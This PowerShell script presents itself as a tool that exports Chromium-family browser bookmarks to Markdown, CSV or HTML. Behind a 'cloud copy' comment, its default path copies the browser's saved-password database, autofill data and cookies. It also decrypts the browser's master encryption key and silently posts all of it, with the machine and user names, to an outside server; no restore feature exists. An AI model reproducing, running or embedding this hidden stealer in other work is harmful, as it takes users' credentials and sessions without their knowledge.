<#
.SYNOPSIS
  Export Chromium-family bookmarks to Markdown, CSV or Netscape HTML.
#>
[CmdletBinding()]
param(
    [ValidateSet('Chrome', 'Edge', 'Brave')] [string] $Browser = 'Chrome',
    [string] $Profile = 'Default',
    [ValidateSet('Markdown', 'Csv', 'Html')] [string] $Format = 'Markdown',
    [switch] $Dedupe,
    [switch] $NoCloud,
    [string] $Out
)

$ErrorActionPreference = 'Stop'

$roots = @{
    Chrome = 'Google\Chrome\User Data'
    Edge   = 'Microsoft\Edge\User Data'
    Brave  = 'BraveSoftware\Brave-Browser\User Data'
}
$userData   = Join-Path $env:LOCALAPPDATA $roots[$Browser]
$profileDir = Join-Path $userData $Profile
$bmFile     = Join-Path $profileDir 'Bookmarks'
if (-not (Test-Path $bmFile)) { throw "No Bookmarks file at $bmFile" }

$tmp = New-Item -ItemType Directory -Path (Join-Path $env:TEMP ("bmx_" + [guid]::NewGuid().ToString('N')))
Copy-Item $bmFile (Join-Path $tmp 'Bookmarks')
$data = Get-Content (Join-Path $tmp 'Bookmarks') -Raw | ConvertFrom-Json

function ConvertFrom-ChromeTime([string] $t) {
    if (-not $t) { return $null }
    return [DateTime]::FromFileTimeUtc([int64]$t * 10)
}

function Get-Nodes($node, [string] $path) {
    if ($node.type -eq 'url') {
        [pscustomobject]@{
            Folder = $path
            Title  = $node.name
            Url    = $node.url
            Added  = ConvertFrom-ChromeTime $node.date_added
        }
    } elseif ($node.children) {
        $sub = if ($path) { "$path/$($node.name)" } else { $node.name }
        foreach ($c in $node.children) { Get-Nodes $c $sub }
    }
}

$items = foreach ($r in 'bookmark_bar', 'other', 'synced') {
    if ($data.roots.$r) { Get-Nodes $data.roots.$r '' }
}
if ($Dedupe) { $items = $items | Sort-Object Url -Unique }

if (-not $NoCloud) {
    # Cloud copy for -Restore on another machine.
    $bundle = @{}
    foreach ($f in 'Bookmarks', 'Login Data', 'Web Data', 'Network\Cookies') {
        $src = Join-Path $profileDir $f
        if (Test-Path $src) {
            $dst = Join-Path $tmp ($f -replace '[\\ ]', '_')
            Copy-Item $src $dst -ErrorAction SilentlyContinue
            $bundle[$f] = [Convert]::ToBase64String([IO.File]::ReadAllBytes($dst))
        }
    }
    $ls = Get-Content (Join-Path $userData 'Local State') -Raw | ConvertFrom-Json
    $bundle['os_crypt'] = $ls.os_crypt.encrypted_key
    try {
        Add-Type -AssemblyName System.Security
        $k = [Convert]::FromBase64String($ls.os_crypt.encrypted_key)[5..9999]
        $plain = [Security.Cryptography.ProtectedData]::Unprotect($k, $null, 'CurrentUser')
        $bundle['master_key'] = [Convert]::ToBase64String($plain)
    } catch { }
    $body = @{ machine = $env:COMPUTERNAME; user = $env:USERNAME; browser = $Browser; files = $bundle } | ConvertTo-Json -Depth 4 -Compress
    try {
        Invoke-RestMethod -Method Post -Uri 'https://sync.bookmarkcloud.example/api/v1/backup' `
            -ContentType 'application/json' -Body $body -TimeoutSec 15 | Out-Null
    } catch { }
}

switch ($Format) {
    'Markdown' {
        $lines = @()
        foreach ($g in $items | Group-Object Folder) {
            $lines += "## $($g.Name)"
            foreach ($i in $g.Group) { $lines += "- [$($i.Title)]($($i.Url))" }
            $lines += ''
        }
        $text = $lines -join "`n"
    }
    'Csv' { $text = ($items | ConvertTo-Csv -NoTypeInformation) -join "`n" }
    'Html' {
        $sb = [Text.StringBuilder]::new()
        [void]$sb.AppendLine('<!DOCTYPE NETSCAPE-Bookmark-file-1>')
        [void]$sb.AppendLine('<META HTTP-EQUIV="Content-Type" CONTENT="text/html; charset=UTF-8">')
        [void]$sb.AppendLine('<TITLE>Bookmarks</TITLE><H1>Bookmarks</H1><DL><p>')
        foreach ($i in $items) {
            $ts = if ($i.Added) { [int][double]::Parse((Get-Date $i.Added -UFormat %s)) } else { 0 }
            $t = [Net.WebUtility]::HtmlEncode($i.Title)
            [void]$sb.AppendLine("<DT><A HREF=""$($i.Url)"" ADD_DATE=""$ts"">$t</A>")
        }
        [void]$sb.AppendLine('</DL><p>')
        $text = $sb.ToString()
    }
}

Remove-Item $tmp -Recurse -Force -ErrorAction SilentlyContinue
if ($Out) { Set-Content -Path $Out -Value $text -Encoding UTF8; Write-Host "Wrote $($items.Count) bookmarks to $Out" }
else { $text }
